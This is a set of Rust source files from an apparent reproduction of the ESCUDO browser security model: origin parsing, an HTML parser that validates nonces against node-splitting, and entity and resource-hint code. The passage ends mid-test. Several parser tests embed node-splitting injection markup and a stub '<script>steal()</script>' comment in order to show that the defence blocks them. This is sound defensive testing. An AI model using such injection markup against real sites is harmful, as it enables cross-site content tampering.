            (&foreign, &object, Operation::Read),
            (&p1, &object, Operation::Read), // repeat → served from cache
        ];
        let results = engine.decide_many(&batch);
        for ((p, o, op), got) in batch.iter().zip(&results) {
            assert_eq!(*got, decide(PolicyMode::Escudo, p, o, *op));
        }
        assert_eq!(engine.stats().cache_hits, 1);
    }

    #[test]
    fn zero_capacity_disables_memoization() {
        let engine = EscudoEngine::with_cache_capacity(0);
        let object = dom(1, Acl::uniform(Ring::new(1)));
        engine.decide(&script(1), &object, Operation::Read);
        engine.decide(&script(1), &object, Operation::Read);
        let stats = engine.stats();
        assert_eq!(stats.cache_hits, 0);
        assert_eq!(stats.cache_misses, 2);
    }

    #[test]
    fn bounded_cache_clears_instead_of_growing() {
        let engine = EscudoEngine::with_cache_capacity(8);
        let object = dom(3, Acl::uniform(Ring::new(3)));
        // 20 distinct principals → more keys than capacity; every decision stays correct.
        for ring in 0u16..20 {
            let p = script(ring);
            let expected = decide(PolicyMode::Escudo, &p, &object, Operation::Read);
            assert_eq!(engine.decide(&p, &object, Operation::Read), expected);
        }
        // And cache hits still happen for re-checks after the clears.
        let before = engine.stats().cache_hits;
        engine.decide(&script(19), &object, Operation::Read);
        assert_eq!(engine.stats().cache_hits, before + 1);
    }

    #[test]
    fn clear_cache_forces_recomputation_but_not_wrong_answers() {
        let engine = EscudoEngine::new();
        let object = dom(2, Acl::uniform(Ring::new(2)));
        let expected = decide(PolicyMode::Escudo, &script(2), &object, Operation::Write);
        assert_eq!(
            engine.decide(&script(2), &object, Operation::Write),
            expected
        );
        engine.clear_cache();
        assert_eq!(
            engine.decide(&script(2), &object, Operation::Write),
            expected
        );
        assert_eq!(engine.stats().cache_hits, 0);
    }

    #[test]
    fn same_origin_engine_is_the_sop_baseline() {
        let engine = SameOriginEngine::new();
        let object = dom(0, Acl::ring_zero_only());
        // Ring is irrelevant under the SOP…
        assert!(engine
            .decide(&script(u16::MAX), &object, Operation::Write)
            .is_allowed());
        // …but a cross-origin principal is still denied.
        let foreign = PrincipalContext::new(PrincipalKind::Script, other_site(), Ring::new(0));
        assert!(engine
            .decide(&foreign, &object, Operation::Read)
            .is_denied());
        assert_eq!(engine.mode(), PolicyMode::SameOriginOnly);
        assert_eq!(engine.stats().decisions, 2);
        assert_eq!(engine.stats().cache_hits, 0);
    }

    #[test]
    fn factory_picks_the_engine_by_mode() {
        assert_eq!(
            engine_for_mode(PolicyMode::Escudo).mode(),
            PolicyMode::Escudo
        );
        assert_eq!(
            engine_for_mode(PolicyMode::SameOriginOnly).mode(),
            PolicyMode::SameOriginOnly
        );
    }

    #[test]
    fn engine_is_shareable_across_threads() {
        let engine: Arc<dyn PolicyEngine> = Arc::new(EscudoEngine::new());
        let mut handles = Vec::new();
        for ring in 0u16..4 {
            let engine = Arc::clone(&engine);
            handles.push(std::thread::spawn(move || {
                let object = ObjectContext::new(
                    ObjectKind::DomElement,
                    Origin::new("http", "app.example", 80),
                    Ring::new(2),
                )
                .with_acl(Acl::uniform(Ring::new(1)));
                let p = PrincipalContext::new(
                    PrincipalKind::Script,
                    Origin::new("http", "app.example", 80),
                    Ring::new(ring),
                );
                for _ in 0..100 {
                    let got = engine.decide(&p, &object, Operation::Read);
                    assert_eq!(
                        got,
                        decide(PolicyMode::Escudo, &p, &object, Operation::Read)
                    );
                }
            }));
        }
        for handle in handles {
            handle.join().expect("thread");
        }
        assert_eq!(engine.stats().decisions, 400);
    }
}
