//! Web origins — the `⟨protocol, domain, port⟩` triple of the same-origin policy.

use std::fmt;
use std::str::FromStr;
use std::sync::Arc;

use crate::error::ConfigError;

/// A web origin: the unique combination of scheme ("protocol"), host ("domain") and
/// port, as used by both the same-origin policy and ESCUDO's origin rule.
///
/// Origins compare case-insensitively on scheme and host; the port is significant.
/// When a URL omits the port, the scheme's default port is used (80 for `http`,
/// 443 for `https`).
///
/// Origins are cloned on every mediation-relevant construction — interner keys,
/// request-issuing principals, per-node security contexts — so the string
/// components are stored as shared `Arc<str>` slices: a clone is two reference
/// count bumps, not two heap allocations. Equality and hashing still compare
/// the (lower-cased) string contents.
///
/// # Example
///
/// ```
/// use escudo_core::Origin;
///
/// let a: Origin = "http://www.amazon.com/index.php".parse()?;
/// let b: Origin = "http://www.amazon.com:80/search.php".parse()?;
/// let c: Origin = "https://www.amazon.com/".parse()?;
/// assert_eq!(a, b);
/// assert_ne!(a, c); // different scheme ⇒ different origin
/// # Ok::<(), escudo_core::ConfigError>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Origin {
    scheme: Arc<str>,
    host: Arc<str>,
    port: u16,
}

impl Origin {
    /// Creates an origin from its components. Scheme and host are lower-cased.
    #[must_use]
    pub fn new(scheme: &str, host: &str, port: u16) -> Self {
        Origin {
            scheme: scheme.to_ascii_lowercase().into(),
            host: host.to_ascii_lowercase().into(),
            port,
        }
    }

    /// Parses the origin of a URL string.
    ///
    /// Accepts full URLs (`http://host:port/path?query`) as well as bare origins
    /// (`https://host`). This is a purpose-built parser for the subset of URL syntax
    /// the reproduction needs; it is not a general-purpose WHATWG URL parser.
    ///
    /// # Errors
    ///
    /// Returns [`ConfigError::InvalidOrigin`] when the scheme is missing, the host is
    /// empty, or the port is not numeric.
    pub fn parse_url(url: &str) -> Result<Self, ConfigError> {
        let url = url.trim();
        let (scheme, rest) = url
            .split_once("://")
            .ok_or_else(|| ConfigError::InvalidOrigin(url.to_string()))?;
        if scheme.is_empty()
            || !scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '+' || c == '-' || c == '.')
        {
            return Err(ConfigError::InvalidOrigin(url.to_string()));
        }
        // Authority ends at the first '/', '?' or '#'.
        let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let authority = &rest[..authority_end];
        if authority.is_empty() {
            return Err(ConfigError::InvalidOrigin(url.to_string()));
        }
        // Strip userinfo if present (rare, but cheap to support).
        let authority = authority.rsplit('@').next().unwrap_or(authority);
        let (host, port) = match authority.rsplit_once(':') {
            Some((h, p)) if !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()) => {
                let port: u16 = p
                    .parse()
                    .map_err(|_| ConfigError::InvalidOrigin(url.to_string()))?;
                (h, port)
            }
            Some((_, p)) if p.chars().any(|c| !c.is_ascii_digit()) => {
                return Err(ConfigError::InvalidOrigin(url.to_string()))
            }
            _ => (authority, default_port(scheme)),
        };
        if host.is_empty() {
            return Err(ConfigError::InvalidOrigin(url.to_string()));
        }
        Ok(Origin::new(scheme, host, port))
    }

    /// The scheme ("protocol") component, lower-cased.
    #[must_use]
    pub fn scheme(&self) -> &str {
        &self.scheme
    }

    /// The host ("domain") component, lower-cased.
    #[must_use]
    pub fn host(&self) -> &str {
        &self.host
    }

    /// The port component.
    #[must_use]
    pub const fn port(&self) -> u16 {
        self.port
    }

    /// The same-origin check used by both the SOP baseline and ESCUDO's origin rule.
    #[must_use]
    pub fn same_origin_as(&self, other: &Origin) -> bool {
        self == other
    }

    /// Serializes the origin as `scheme://host:port`.
    #[must_use]
    pub fn to_url_base(&self) -> String {
        format!("{}://{}:{}", self.scheme, self.host, self.port)
    }
}

/// The default port for a scheme (80 for http, 443 for https, 0 otherwise).
#[must_use]
pub fn default_port(scheme: &str) -> u16 {
    match scheme.to_ascii_lowercase().as_str() {
        "http" | "ws" => 80,
        "https" | "wss" => 443,
        "ftp" => 21,
        _ => 0,
    }
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}://{}:{}", self.scheme, self.host, self.port)
    }
}

impl FromStr for Origin {
    type Err = ConfigError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Origin::parse_url(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_path_same_origin() {
        let a = Origin::parse_url("http://www.amazon.com/index.php").unwrap();
        let b = Origin::parse_url("http://www.amazon.com/search.php").unwrap();
        assert!(a.same_origin_as(&b));
    }

    #[test]
    fn different_domain_different_origin() {
        let a = Origin::parse_url("http://www.gmail.com").unwrap();
        let b = Origin::parse_url("http://www.amazon.com").unwrap();
        assert!(!a.same_origin_as(&b));
    }

    #[test]
    fn different_scheme_different_origin() {
        let a = Origin::parse_url("http://www.gmail.com").unwrap();
        let b = Origin::parse_url("https://www.gmail.com").unwrap();
        assert!(!a.same_origin_as(&b));
    }

    #[test]
    fn default_ports_are_filled_in() {
        let a = Origin::parse_url("http://example.com").unwrap();
        assert_eq!(a.port(), 80);
        let b = Origin::parse_url("https://example.com/x").unwrap();
        assert_eq!(b.port(), 443);
        let c = Origin::parse_url("http://example.com:8080/x").unwrap();
        assert_eq!(c.port(), 8080);
    }

    #[test]
    fn explicit_default_port_equals_implicit() {
        let a = Origin::parse_url("http://example.com:80/a").unwrap();
        let b = Origin::parse_url("http://example.com/b").unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn case_is_normalized() {
        let a = Origin::parse_url("HTTP://Example.COM/x").unwrap();
        let b = Origin::parse_url("http://example.com").unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn query_and_fragment_are_ignored() {
        let a = Origin::parse_url("http://example.com?x=1").unwrap();
        let b = Origin::parse_url("http://example.com#frag").unwrap();
        assert_eq!(a, b);
        assert_eq!(a.host(), "example.com");
    }

    #[test]
    fn invalid_inputs_are_rejected() {
        assert!(Origin::parse_url("example.com").is_err());
        assert!(Origin::parse_url("http://").is_err());
        assert!(Origin::parse_url("://host").is_err());
        assert!(Origin::parse_url("http://host:notaport/").is_err());
        assert!(Origin::parse_url("").is_err());
    }

    #[test]
    fn display_roundtrip() {
        let a = Origin::new("http", "example.com", 8080);
        assert_eq!(a.to_string(), "http://example.com:8080");
        let parsed = Origin::parse_url(&a.to_string()).unwrap();
        assert_eq!(parsed, a);
    }

    #[test]
    fn roundtrip_through_display() {
        let hosts = [
            "a",
            "app.example",
            "x9.y-z.example",
            "very.long.sub.domain.example.com",
        ];
        let ports = [1u16, 80, 443, 8080, u16::MAX];
        for host in hosts {
            for port in ports {
                let origin = Origin::new("http", host, port);
                let parsed = Origin::parse_url(&origin.to_string()).unwrap();
                assert_eq!(parsed, origin);
            }
        }
    }

    #[test]
    fn parser_never_panics() {
        let adversarial = [
            "",
            "://",
            "http://",
            "http://:",
            "http://:80",
            "http://h:",
            "http://h:x",
            "http://h:99999",
            "a://b:1/c?d#e",
            "http://@",
            "http://u@h",
            "http://[::1]:80",
            "http//missing.colon",
            "http:///path",
            "\u{0}\u{ffff}",
            "🦀://🦀",
            "http://h:1:2",
            "http://h#frag",
            "scheme+x-y.z://host",
            "   http://pad.example   ",
        ];
        for s in adversarial {
            let _ = Origin::parse_url(s);
        }
    }
}
