//! The tree builder: tokens → [`escudo_dom::Document`], with ESCUDO's parse-time
//! defenses (nonce validation against node splitting).

use escudo_core::Nonce;
use escudo_dom::{Document, NodeId};

use crate::token::Token;
use crate::tokenizer::Tokenizer;

/// Elements that never take children.
const VOID_ELEMENTS: [&str; 14] = [
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source",
    "track", "wbr",
];

fn is_void(tag: &str) -> bool {
    VOID_ELEMENTS.contains(&tag)
}

/// Options controlling parsing.
#[derive(Debug, Clone)]
pub struct ParseOptions {
    /// When `true` (the default), a `</div>` closing an AC tag that carries a nonce
    /// must repeat the nonce, otherwise the end tag is ignored — the paper's defense
    /// against node-splitting attacks. Non-ESCUDO browsers (`false`) accept any end
    /// tag, which is what makes the attack possible there.
    pub validate_nonces: bool,
    /// When `true`, ensure the document has `html` and `body` elements even if the
    /// source omits them, so queries and rendering have a predictable shape.
    pub imply_document_structure: bool,
}

impl Default for ParseOptions {
    fn default() -> Self {
        ParseOptions {
            validate_nonces: true,
            imply_document_structure: true,
        }
    }
}

impl ParseOptions {
    /// Options matching a legacy (non-ESCUDO) browser: nonces are not validated.
    #[must_use]
    pub fn legacy() -> Self {
        ParseOptions {
            validate_nonces: false,
            imply_document_structure: true,
        }
    }
}

/// A record of a rejected end tag (nonce mismatch), kept for auditing and tests.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NonceViolation {
    /// The tag name of the rejected end tag.
    pub tag: String,
    /// The nonce the end tag carried, if any.
    pub offered: Option<Nonce>,
    /// The nonce the open AC tag expected.
    pub expected: Nonce,
}

/// Statistics and security-relevant observations from one parse.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ParseReport {
    /// Number of tokens processed.
    pub tokens: usize,
    /// Number of elements created.
    pub elements: usize,
    /// Number of text nodes created.
    pub text_nodes: usize,
    /// Number of end tags ignored because their nonce did not match the open AC tag
    /// (each one is a defeated node-splitting attempt).
    pub rejected_end_tags: usize,
    /// Details of each rejected end tag.
    pub nonce_violations: Vec<NonceViolation>,
    /// End tags that matched no open element and were dropped.
    pub unmatched_end_tags: usize,
}

/// The outcome of parsing: the document plus the parse report.
#[derive(Debug, Clone)]
pub struct ParseResult {
    /// The constructed DOM.
    pub document: Document,
    /// Parse statistics and nonce-violation records.
    pub report: ParseReport,
}

/// Parses an HTML document.
///
/// This is the single entry point used by the browser's page loader, the examples and
/// the benchmarks.
#[must_use]
pub fn parse_document(html: &str, options: &ParseOptions) -> ParseResult {
    Builder::new(options.clone()).run(html)
}

struct OpenElement {
    node: NodeId,
    tag: String,
    nonce: Option<Nonce>,
}

struct Builder {
    options: ParseOptions,
    document: Document,
    stack: Vec<OpenElement>,
    report: ParseReport,
    html_node: Option<NodeId>,
    body_node: Option<NodeId>,
}

impl Builder {
    fn new(options: ParseOptions) -> Self {
        Builder {
            options,
            document: Document::new(),
            stack: Vec::new(),
            report: ParseReport::default(),
            html_node: None,
            body_node: None,
        }
    }

    fn run(mut self, html: &str) -> ParseResult {
        let mut tokenizer = Tokenizer::new(html);
        loop {
            let token = tokenizer.next_token();
            self.report.tokens += 1;
            match token {
                Token::Eof => break,
                other => self.process(other),
            }
        }
        if self.options.imply_document_structure {
            self.ensure_structure();
        }
        ParseResult {
            document: self.document,
            report: self.report,
        }
    }

    fn current_parent(&self) -> NodeId {
        self.stack
            .last()
            .map(|open| open.node)
            .unwrap_or_else(|| self.document.root())
    }

    fn process(&mut self, token: Token) {
        match token {
            Token::Doctype(name) => {
                let node = self.document.create_doctype(&name);
                let root = self.document.root();
                let _ = self.document.append_child(root, node);
            }
            Token::Comment(text) => {
                let node = self.document.create_comment(&text);
                let parent = self.current_parent();
                let _ = self.document.append_child(parent, node);
            }
            Token::Text(text) => {
                if text.is_empty() {
                    return;
                }
                // Whitespace-only text outside of any element is dropped (it would
                // otherwise attach to the document root between html/head/body).
                if self.stack.is_empty() && text.trim().is_empty() {
                    return;
                }
                let parent = self.current_parent();
                let node = self.document.create_text(&text);
                let _ = self.document.append_child(parent, node);
                self.report.text_nodes += 1;
            }
            Token::StartTag {
                name,
                attrs,
                self_closing,
            } => self.start_tag(&name, &attrs, self_closing),
            Token::EndTag { name, attrs } => self.end_tag(&name, &attrs),
            // Eof is handled by the run loop; reaching it here is a no-op.
            Token::Eof => {}
        }
    }

    fn start_tag(&mut self, name: &str, attrs: &[(String, String)], self_closing: bool) {
        let node = self.document.create_element(name);
        for (attr_name, value) in attrs {
            self.document.set_attribute(node, attr_name, value);
        }
        self.report.elements += 1;

        let parent = self.current_parent();
        let _ = self.document.append_child(parent, node);

        match name {
            "html" => self.html_node = Some(node),
            "body" => self.body_node = Some(node),
            _ => {}
        }

        if self_closing || is_void(name) {
            return;
        }

        let nonce = self
            .document
            .attribute(node, "nonce")
            .and_then(|value| value.parse::<Nonce>().ok());
        self.stack.push(OpenElement {
            node,
            tag: name.to_string(),
            nonce,
        });
    }

    fn end_tag(&mut self, name: &str, attrs: &[(String, String)]) {
        // Find the nearest open element with this tag name.
        let Some(position) = self.stack.iter().rposition(|open| open.tag == name) else {
            self.report.unmatched_end_tags += 1;
            return;
        };

        // ESCUDO nonce validation: if the open element carries a nonce, the end tag
        // must repeat it, otherwise the end tag is ignored ("Escudo ignores any </div>
        // tag whose random nonce does not match the number in its matching div tag").
        if self.options.validate_nonces {
            if let Some(expected) = self.stack[position].nonce {
                let offered = attrs
                    .iter()
                    .find(|(n, _)| n == "nonce")
                    .and_then(|(_, v)| v.parse::<Nonce>().ok());
                if offered != Some(expected) {
                    self.report.rejected_end_tags += 1;
                    self.report.nonce_violations.push(NonceViolation {
                        tag: name.to_string(),
                        offered,
                        expected,
                    });
                    return;
                }
            }
        }

        // Pop everything above the matched element (implicitly closing unclosed
        // children), then the element itself.
        self.stack.truncate(position);
    }

    /// Guarantees the document has `html` and `body` elements and that stray content
    /// parsed at the top level ends up inside `body`.
    fn ensure_structure(&mut self) {
        let root = self.document.root();
        let html = match self.html_node {
            Some(node) => node,
            None => {
                let node = self.document.create_element("html");
                // Move the root's existing children (except doctype) under html later;
                // first attach html to the root.
                let existing: Vec<NodeId> = self.document.children(root).collect();
                let _ = self.document.append_child(root, node);
                for child in existing {
                    if matches!(self.document.data(child), escudo_dom::NodeData::Doctype(_)) {
                        continue;
                    }
                    let _ = self.document.append_child(node, child);
                }
                self.html_node = Some(node);
                node
            }
        };
        if self.body_node.is_none() {
            let body = self.document.create_element("body");
            // Everything currently under html that is not head/body moves into body.
            let existing: Vec<NodeId> = self.document.children(html).collect();
            let _ = self.document.append_child(html, body);
            for child in existing {
                let is_head_or_body = self
                    .document
                    .tag_name(child)
                    .map(|t| t == "head" || t == "body")
                    .unwrap_or(false);
                if !is_head_or_body {
                    let _ = self.document.append_child(body, child);
                }
            }
            self.body_node = Some(body);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(html: &str) -> ParseResult {
        parse_document(html, &ParseOptions::default())
    }

    #[test]
    fn builds_a_simple_page() {
        let result =
            parse("<html><head><title>t</title></head><body><p id=\"x\">hi</p></body></html>");
        let doc = &result.document;
        let p = doc.get_element_by_id("x").unwrap();
        assert_eq!(doc.text_content(p), "hi");
        assert_eq!(doc.elements_by_tag_name("title").len(), 1);
        assert_eq!(result.report.unmatched_end_tags, 0);
        assert_eq!(result.report.rejected_end_tags, 0);
    }

    #[test]
    fn nesting_is_preserved() {
        let result = parse("<body><div id=a><div id=b><span id=c>x</span></div></div></body>");
        let doc = &result.document;
        let a = doc.get_element_by_id("a").unwrap();
        let b = doc.get_element_by_id("b").unwrap();
        let c = doc.get_element_by_id("c").unwrap();
        assert_eq!(doc.parent(b), Some(a));
        assert_eq!(doc.parent(c), Some(b));
    }

    #[test]
    fn void_elements_do_not_swallow_siblings() {
        let result = parse("<body><img src=a.png><p id=x>text</p></body>");
        let doc = &result.document;
        let p = doc.get_element_by_id("x").unwrap();
        let body = doc.elements_by_tag_name("body")[0];
        assert_eq!(doc.parent(p), Some(body));
        assert_eq!(doc.elements_by_tag_name("img").len(), 1);
    }

    #[test]
    fn missing_structure_is_implied() {
        let result = parse("<p id=solo>hello</p>");
        let doc = &result.document;
        assert_eq!(doc.elements_by_tag_name("html").len(), 1);
        assert_eq!(doc.elements_by_tag_name("body").len(), 1);
        let p = doc.get_element_by_id("solo").unwrap();
        let body = doc.elements_by_tag_name("body")[0];
        assert!(doc.is_inclusive_ancestor(body, p));
    }

    #[test]
    fn unmatched_end_tags_are_counted_and_ignored() {
        let result = parse("<body><p>x</p></div></span></body>");
        assert_eq!(result.report.unmatched_end_tags, 2);
        assert_eq!(result.document.elements_by_tag_name("p").len(), 1);
    }

    #[test]
    fn unclosed_children_are_implicitly_closed_by_the_parent_end_tag() {
        let result = parse("<body><div id=outer><p>one<p>two</div><p id=after>x</p></body>");
        let doc = &result.document;
        let after = doc.get_element_by_id("after").unwrap();
        let outer = doc.get_element_by_id("outer").unwrap();
        // `after` must not be inside `outer`.
        assert!(!doc.is_inclusive_ancestor(outer, after));
    }

    #[test]
    fn matching_nonce_closes_the_ac_tag() {
        let html = r#"<body><div ring=3 nonce=42>inside</div nonce=42><p id=out>x</p></body>"#;
        let result = parse(html);
        let doc = &result.document;
        let out = doc.get_element_by_id("out").unwrap();
        let div = doc.elements_by_tag_name("div")[0];
        assert!(!doc.is_inclusive_ancestor(div, out));
        assert_eq!(result.report.rejected_end_tags, 0);
    }

    #[test]
    fn node_splitting_end_tag_without_nonce_is_rejected() {
        // The attacker-controlled content tries to escape the ring-3 region by closing
        // the div and opening a "new" one claiming ring 0.
        let html = r#"<body><div ring=3 nonce=42>user text</div><div ring=0 id=injected>evil</div nonce=42></body>"#;
        let result = parse(html);
        let doc = &result.document;
        assert_eq!(result.report.rejected_end_tags, 1);
        assert_eq!(
            result.report.nonce_violations[0].expected,
            Nonce::from_raw(42)
        );
        assert_eq!(result.report.nonce_violations[0].offered, None);
        // The injected div stays *inside* the original AC region.
        let injected = doc.get_element_by_id("injected").unwrap();
        let outer = doc.elements_by_tag_name("div")[0];
        assert!(doc.is_inclusive_ancestor(outer, injected));
    }

    #[test]
    fn node_splitting_with_wrong_nonce_is_rejected() {
        let html = r#"<body><div ring=3 nonce=42>text</div nonce=41><div id=injected ring=0>x</div nonce=42></body>"#;
        let result = parse(html);
        assert_eq!(result.report.rejected_end_tags, 1);
        let doc = &result.document;
        let injected = doc.get_element_by_id("injected").unwrap();
        let outer = doc.elements_by_tag_name("div")[0];
        assert!(doc.is_inclusive_ancestor(outer, injected));
    }

    #[test]
    fn legacy_mode_accepts_the_split() {
        let html = r#"<body><div ring=3 nonce=42>text</div><div id=injected ring=0>x</div></body>"#;
        let result = parse_document(html, &ParseOptions::legacy());
        let doc = &result.document;
        assert_eq!(result.report.rejected_end_tags, 0);
        let injected = doc.get_element_by_id("injected").unwrap();
        let outer = doc.elements_by_tag_name("div")[0];
        // In a non-ESCUDO browser the injected div escapes the region.
        assert!(!doc.is_inclusive_ancestor(outer, injected));
    }

    #[test]
    fn script_bodies_are_single_text_nodes() {
        let result = parse("<body><script>var x = \"<div>not a tag</div>\";</script></body>");
        let doc = &result.document;
        let script = doc.elements_by_tag_name("script")[0];
        assert_eq!(doc.children(script).count(), 1);
        assert_eq!(
            doc.text_content(script),
            "var x = \"<div>not a tag</div>\";"
        );
        // No div element was created from the string literal.
        assert!(doc.elements_by_tag_name("div").is_empty());
    }

    #[test]
    fn report_counts_are_plausible() {
        let result = parse("<body><div><p>a</p><p>b</p></div></body>");
        assert_eq!(result.report.elements, 4); // body, div, p, p
        assert_eq!(result.report.text_nodes, 2);
        assert!(result.report.tokens >= 9);
    }

    #[test]
    fn parser_never_panics_on_hostile_input() {
        for input in [
            "",
            "<",
            "><><><",
            "<div ring=",
            "<div ring=3 nonce=",
            "</div nonce=1>",
            "<script><script></script>",
            "<!DOCTYPE><!---->",
            "&#xFFFFFFFFF;",
            "<div ring=3 nonce=9999999999999999999999>",
        ] {
            let _ = parse(input);
        }
    }

    #[test]
    fn figure_3_style_blog_page_parses() {
        let html = r#"<html><body>
            <div ring=2 r=0 w=0 x=0 nonce=1111 id="post">
              <h1>Blog post</h1>
              <p>Original message</p>
            </div nonce=1111>
            <div ring=3 r=2 w=2 x=2 nonce=2222 id="comment">
              <p>User comment with <script>steal()</script></p>
            </div nonce=2222>
        </body></html>"#;
        let result = parse(html);
        let doc = &result.document;
        let post = doc.get_element_by_id("post").unwrap();
        let comment = doc.get_element_by_id("comment").unwrap();
        assert_eq!(doc.attribute(post, "ring"), Some("2"));
        assert_eq!(doc.attribute(comment, "ring"), Some("3"));
        assert!(!doc.is_inclusive_ancestor(post, comment));
        assert_eq!(result.report.rejected_end_tags, 0);
        assert_eq!(doc.elements_by_tag_name("script").len(), 1);
    }
}
