//! Character-reference (entity) decoding.

/// Decodes the named and numeric character references that appear in the pages this
/// repo generates and parses. Unknown references are left verbatim (browser-like
/// recovery rather than an error).
#[must_use]
pub fn decode_entities(input: &str) -> String {
    if !input.contains('&') {
        return input.to_string();
    }
    let mut out = String::with_capacity(input.len());
    let chars: Vec<char> = input.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '&' {
            out.push(chars[i]);
            i += 1;
            continue;
        }
        // Find the terminating ';' within a reasonable distance.
        let end = chars[i + 1..]
            .iter()
            .take(32)
            .position(|&c| c == ';')
            .map(|offset| i + 1 + offset);
        let Some(end) = end else {
            out.push('&');
            i += 1;
            continue;
        };
        let entity: String = chars[i + 1..end].iter().collect();
        match decode_one(&entity) {
            Some(decoded) => {
                out.push_str(&decoded);
                i = end + 1;
            }
            None => {
                out.push('&');
                i += 1;
            }
        }
    }
    out
}

fn decode_one(entity: &str) -> Option<String> {
    if let Some(rest) = entity.strip_prefix('#') {
        let code = if let Some(hex) = rest.strip_prefix('x').or_else(|| rest.strip_prefix('X')) {
            u32::from_str_radix(hex, 16).ok()?
        } else {
            rest.parse::<u32>().ok()?
        };
        return char::from_u32(code).map(|c| c.to_string());
    }
    let named = match entity {
        "amp" => "&",
        "lt" => "<",
        "gt" => ">",
        "quot" => "\"",
        "apos" => "'",
        "nbsp" => "\u{a0}",
        "copy" => "\u{a9}",
        "reg" => "\u{ae}",
        "hellip" => "\u{2026}",
        "mdash" => "\u{2014}",
        "ndash" => "\u{2013}",
        "lsquo" => "\u{2018}",
        "rsquo" => "\u{2019}",
        "ldquo" => "\u{201c}",
        "rdquo" => "\u{201d}",
        _ => return None,
    };
    Some(named.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn named_entities_decode() {
        assert_eq!(decode_entities("a &amp; b"), "a & b");
        assert_eq!(decode_entities("&lt;script&gt;"), "<script>");
        assert_eq!(decode_entities("&quot;x&quot; &apos;y&apos;"), "\"x\" 'y'");
        assert_eq!(decode_entities("no entities here"), "no entities here");
    }

    #[test]
    fn numeric_entities_decode() {
        assert_eq!(decode_entities("&#65;&#66;"), "AB");
        assert_eq!(decode_entities("&#x41;&#X42;"), "AB");
        assert_eq!(decode_entities("&#x1F600;"), "😀");
    }

    #[test]
    fn unknown_or_malformed_entities_pass_through() {
        assert_eq!(decode_entities("&unknown;"), "&unknown;");
        assert_eq!(decode_entities("AT&T"), "AT&T");
        assert_eq!(decode_entities("100% &"), "100% &");
        assert_eq!(decode_entities("&#xZZ;"), "&#xZZ;");
        assert_eq!(decode_entities("&#1114112;"), "&#1114112;"); // out of Unicode range
    }

    #[test]
    fn adjacent_and_repeated_entities() {
        assert_eq!(decode_entities("&amp;&amp;&amp;"), "&&&");
        assert_eq!(decode_entities("&lt;&#47;div&gt;"), "</div>");
    }
}
