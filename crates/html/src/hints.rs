//! Resource-hint and critical-resource extraction from parsed markup.
//!
//! The unified fetch scheduler needs two document-order views of a page that
//! plain tag queries cannot give it (they are per-tag, and scheduling cares
//! about the *interleaved* order):
//!
//! * [`critical_resources`] — the render-blocking external subresources
//!   (`<link rel="stylesheet" href>` and `<script src>`) that ride the
//!   navigation lane of the fetch pool, ahead of bulk image traffic;
//! * [`prefetch_links`] — `<link rel="prefetch" href>` speculation hints, the
//!   markup half of the browser's visited-link predictor, which ride the
//!   background lane.
//!
//! `rel` is a space-separated, ASCII case-insensitive token list per the HTML
//! spec, so `<link rel="Prefetch dns-prefetch">` counts.

use escudo_dom::{Document, NodeId};

/// `true` when `rel`'s space-separated token list contains `token`
/// (ASCII case-insensitive, per the HTML spec's link-type matching).
fn rel_contains(rel: &str, token: &str) -> bool {
    rel.split_ascii_whitespace()
        .any(|t| t.eq_ignore_ascii_case(token))
}

/// Non-empty `href`/`src`-style attribute of `id`, if present.
fn resource_attr<'d>(document: &'d Document, id: NodeId, attr: &str) -> Option<&'d str> {
    document.attribute(id, attr).filter(|v| !v.is_empty())
}

/// The render-critical external subresources of the document —
/// `<link rel="stylesheet" href=…>` and `<script src=…>` — in document order,
/// as `(node, url)` pairs. Inline scripts (no `src`) and links without an
/// `href` are not resources and are skipped.
#[must_use]
pub fn critical_resources(document: &Document) -> Vec<(NodeId, String)> {
    document
        .all_elements()
        .into_iter()
        .filter_map(|id| match document.tag_name(id) {
            Some("link") => {
                let rel = document.attribute(id, "rel")?;
                if !rel_contains(rel, "stylesheet") {
                    return None;
                }
                resource_attr(document, id, "href").map(|href| (id, href.to_string()))
            }
            Some("script") => resource_attr(document, id, "src").map(|src| (id, src.to_string())),
            _ => None,
        })
        .collect()
}

/// The document's `<link rel="prefetch" href=…>` speculation hints, in
/// document order, as `(node, url)` pairs.
#[must_use]
pub fn prefetch_links(document: &Document) -> Vec<(NodeId, String)> {
    document
        .all_elements()
        .into_iter()
        .filter_map(|id| {
            if !document.is_element_named(id, "link") {
                return None;
            }
            let rel = document.attribute(id, "rel")?;
            if !rel_contains(rel, "prefetch") {
                return None;
            }
            resource_attr(document, id, "href").map(|href| (id, href.to_string()))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{parse_document, ParseOptions};

    fn doc(html: &str) -> Document {
        parse_document(html, &ParseOptions::default()).document
    }

    #[test]
    fn critical_resources_interleave_stylesheets_and_scripts_in_document_order() {
        let document = doc(concat!(
            "<html><head>",
            r#"<link rel="stylesheet" href="/a.css">"#,
            r#"<script src="/b.js"></script>"#,
            r#"<link rel="stylesheet" href="/c.css">"#,
            "</head><body>",
            "<script>inline();</script>",
            r#"<img src="/d.png">"#,
            "</body></html>"
        ));
        let urls: Vec<String> = critical_resources(&document)
            .into_iter()
            .map(|(_, url)| url)
            .collect();
        assert_eq!(urls, vec!["/a.css", "/b.js", "/c.css"]);
    }

    #[test]
    fn non_stylesheet_links_and_attributeless_tags_are_skipped() {
        let document = doc(concat!(
            "<html><head>",
            r#"<link rel="icon" href="/favicon.ico">"#,
            r#"<link rel="stylesheet">"#,
            r#"<link href="/bare.css">"#,
            r#"<script src=""></script>"#,
            "</head></html>"
        ));
        assert!(critical_resources(&document).is_empty());
        assert!(prefetch_links(&document).is_empty());
    }

    #[test]
